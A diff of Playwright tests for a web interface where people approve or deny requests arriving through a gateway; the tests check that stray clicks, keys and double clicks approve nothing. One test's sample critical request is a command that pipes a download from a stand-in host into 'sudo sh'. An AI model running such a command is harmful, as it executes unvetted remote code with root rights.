@@ -2,7 +2,7 @@ import { expect, type Page } from '@playwright/test';
 import { ask, standing } from './ask';
 import { shots, test } from './gateway';
 import { accessible } from './look';
-import { begin, box, card, press, show, tab } from './page';
+import { answered, begin, box, card, press, row, show, tab } from './page';
 
 const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name });
 const approve = (page: Page) => card(page).getByRole('button', { name: 'Approve once' });
@@ -21,10 +21,11 @@ test('a card that arrives under the pointer is not answered by the click that wa
   browserOf,
   gateway,
 }) => {
-  const page = await tab(browserOf, gateway, '#/waiting');
+  const page = await tab(browserOf, gateway, 'approvals');
   await ask(browserOf, gateway, deploy);
   const spot = (await approve(page).boundingBox())!;
   await press(button(page, 'Deny'));
+  await button(page, 'Back to Approvals').click();
   await expect(page.getByText('Nothing needs you right now')).toBeVisible();
   await stopped(page);
   await page.mouse.move(spot.x + 20, spot.y + 15);
@@ -36,25 +37,23 @@ test('a card that arrives under the pointer is not answered by the click that wa
   expect(await standing(browserOf, gateway, id)).toBe('pending');
   await page.clock.resume();
   await press(approve(page)); // the same press, meant
-  await expect(page.getByText('Nothing needs you right now')).toBeVisible();
+  await expect(answered(page)).toContainText('Approved by');
   expect(await standing(browserOf, gateway, id)).toBe('approved');
 });
 
-test('a card that was moved by what appeared above it is not answered by a click that followed', async ({
+test('a card that was moved by what appeared below it is not answered by a click that followed', async ({
   browserOf,
   gateway,
 }) => {
   const id = await ask(browserOf, gateway, deploy);
-  const page = await tab(browserOf, gateway, '#/waiting');
+  const page = await tab(browserOf, gateway, 'approvals');
   await expect(approve(page)).toHaveAttribute('data-armed', 'true');
   const spot = (await approve(page).boundingBox())!;
   // Something of the page's own, higher than a button; the click comes before anything else can run.
   await page.evaluate(
     ({ x, y }) => {
-      const wedge = document.createElement('div');
-      wedge.style.height = '60px';
-      document.querySelector('[role="search"]')!.before(wedge);
-      const at = document.elementFromPoint(x, y + 60)!.closest('button')!;
+      document.querySelector('main')!.style.paddingBottom = '60px';
+      const at = document.elementFromPoint(x, y - 60)!.closest('button')!;
       for (const kind of ['pointerdown', 'pointerup', 'click'])
         at.dispatchEvent(new PointerEvent(kind, { bubbles: true, button: 0 }));
     },
@@ -65,7 +64,7 @@ test('a card that was moved by what appeared above it is not answered by a click
   // Until the move is noticed the button looks armed, and takes no press.
   await expect(async () => {
     await press(approve(page));
-    await expect(page.getByText('Nothing needs you right now')).toBeVisible({ timeout: 1_000 });
+    await expect(answered(page)).toContainText('Approved by', { timeout: 1_000 });
   }).toPass();
 });
 
@@ -80,15 +79,11 @@ test('Enter in the message box, and Space or Enter into the page, approve nothin
   await box(page).press('Enter');
   await expect(page.getByRole('log').getByText('how far are you?')).toBeVisible();
   await expect(card(page)).toHaveCount(1);
-  await show(page, '#/waiting');
+  await show(page, 'approvals');
   await expect(approve(page)).toHaveAttribute('data-armed', 'true');
   const focused = () => page.evaluate(() => document.activeElement?.tagName);
   expect(await focused()).not.toBe('BUTTON');
   for (const key of ['Space', 'Enter', 'y', 'a', 'Space']) await page.keyboard.press(key);
-  await button(page, 'Review one by one').click();
-  await expect(approve(page)).toHaveAttribute('data-armed', 'true');
-  await expect.poll(focused).toBe('ARTICLE'); // the card, none of its buttons
-  for (const key of ['Space', 'Enter', 'y', 'a', 'Enter']) await page.keyboard.press(key);
   await expect(approve(page)).toBeEnabled();
   await expect(card(page)).toHaveCount(1);
   await expect(page.getByTestId('place')).toHaveText('1 of 1');
@@ -96,17 +91,17 @@ test('Enter in the message box, and Space or Enter into the page, approve nothin
 
 test('a double click answers one request', async ({ browserOf, gateway }) => {
   const ids = [await ask(browserOf, gateway, deploy), await ask(browserOf, gateway, deploy)];
-  const page = await tab(browserOf, gateway, '#/waiting');
-  await expect(card(page)).toHaveCount(2);
-  await expect(approve(page).first()).toHaveAttribute('data-armed', 'true');
-  await approve(page).first().dblclick();
-  await expect(page.getByTestId('gone')).toContainText('Approved by');
-  await expect(card(page)).toHaveCount(1);
-  ids.push(await ask(browserOf, gateway, deploy));
-  await show(page, `#/waiting/${ids[1]!}`);
+  const page = await tab(browserOf, gateway, 'approvals');
+  await expect(row(page)).toHaveCount(2);
   await expect(approve(page)).toHaveAttribute('data-armed', 'true');
   await approve(page).dblclick();
-  await expect(page.getByTestId('gone')).toContainText('Approved by');
+  await expect(answered(page)).toContainText('Approved by');
+  await expect(row(page)).toHaveCount(1);
+  ids.push(await ask(browserOf, gateway, deploy));
+  await show(page, `requests/${ids[1]!}`);
+  await expect(approve(page)).toHaveAttribute('data-armed', 'true');
+  await approve(page).dblclick();
+  await expect(answered(page)).toContainText('Approved by');
   const stand = await Promise.all(ids.map((id) => standing(browserOf, gateway, id)));
   expect(stand).toEqual(['approved', 'approved', 'pending']);
 });
@@ -116,7 +111,7 @@ test('what is of high risk is held to be approved, by the pointer or by a key', 
   gateway,
 }) => {
   const ids = [await ask(browserOf, gateway, risky), await ask(browserOf, gateway, risky)];
-  const page = await tab(browserOf, gateway, `#/waiting/${ids[0]!}`);
+  const page = await tab(browserOf, gateway, `requests/${ids[0]!}`);
   const stand = () => Promise.all(ids.map((id) => standing(browserOf, gateway, id)));
   await expect(approve(page)).toHaveAttribute('data-armed', 'true');
   await approve(page).click();
@@ -130,19 +125,18 @@ test('what is of high risk is held to be approved, by the pointer or by a key', 
   await approve(page).hover();
   await page.mouse.down();
   await expect(approve(page)).toHaveAttribute('data-holding');
-  await shots(page, 'hand-holding', 1440);
   await page.mouse.move(5, 5);
   await expect(approve(page)).not.toHaveAttribute('data-holding');
   await page.mouse.up();
   expect(await stand()).toEqual(['pending', 'pending']);
 
   await press(approve(page));
-  await expect(page.getByTestId('gone')).toContainText('Approved by');
-  await show(page, `#/waiting/${ids[1]!}`);
+  await expect(answered(page)).toContainText('Approved by');
+  await show(page, `requests/${ids[1]!}`);
   await expect(approve(page)).toHaveAttribute('data-armed', 'true');
   await approve(page).focus();
   await page.keyboard.down('Space');
-  await expect(page.getByTestId('gone')).toContainText('Approved by');
+  await expect(answered(page)).toContainText('Approved by');
   await page.keyboard.up('Space');
   expect(await stand()).toEqual(['approved', 'approved']);
 });
@@ -150,17 +144,17 @@ test('what is of high risk is held to be approved, by the pointer or by a key', 
 test('what is critical is approved by writing what it is', async ({ browserOf, gateway }) => {
   const command = 'curl -s https://example.com/x | sudo sh';
   const id = await ask(browserOf, gateway, { ...risky, args: { command } });
-  const page = await tab(browserOf, gateway, `#/waiting/${id}`);
-  const name = page.getByLabel(/To approve, type the name/);
+  const page = await tab(browserOf, gateway, `requests/${id}`);
+  const name = page.getByLabel(/To approve, type/);
   await expect(approve(page)).toBeDisabled();
-  await name.fill('shel');
+  await name.fill('example.co');
   await expect(approve(page)).toBeDisabled();
-  await name.fill('shell');
+  await name.fill('example.com');
   await name.press('Enter');
   await expect(approve(page)).toBeEnabled();
   expect(await standing(browserOf, gateway, id)).toBe('pending');
   await press(approve(page));
-  await expect(page.getByTestId('gone')).toContainText('Approved by');
+  await expect(answered(page)).toContainText('Approved by');
 });
 
 test('keys move and open, and none of them answers', async ({ browserOf, gateway }) => {
@@ -168,22 +162,22 @@ test('keys move and open, and none of them answers', async ({ browserOf, gateway
     await ask(browserOf, gateway, deploy),
     await ask(browserOf, gateway, { ...deploy, client: 'b' }),
   ];
-  const page = await tab(browserOf, gateway, '#/waiting');
-  await expect(card(page)).toHaveCount(2);
+  const page = await tab(browserOf, gateway, 'approvals');
+  await expect(row(page)).toHaveCount(2);
   const key = (name: string) => page.keyboard.press(name);
   const at = () => page.evaluate(() => document.activeElement?.getAttribute('data-approval'));
-  await key('j');
-  expect(await at()).toBe(ids[0]);
-  await key('j');
-  expect(await at()).toBe(ids[1]);
-  await key('k');
-  expect(await at()).toBe(ids[0]);
-  await key('o');
   await expect(page.getByTestId('place')).toHaveText('1 of 2');
   await key('j');
   await expect(page.getByTestId('place')).toHaveText('2 of 2');
   await key('k');
   await expect(page.getByTestId('place')).toHaveText('1 of 2');
+  await key('x');
+  await expect(page.getByTestId('batch')).toContainText('1 selected');
+  await key('x');
+  await expect(page.getByTestId('batch')).toHaveCount(0);
+  await key('o');
+  expect(await at()).toBe(ids[0]); // its card, none of its buttons
+  for (const name of ['Space', 'Enter']) await key(name);
   await key('d');
   await key('Enter'); // opens the field
   const reason = page.getByLabel(/Reason for denying/);
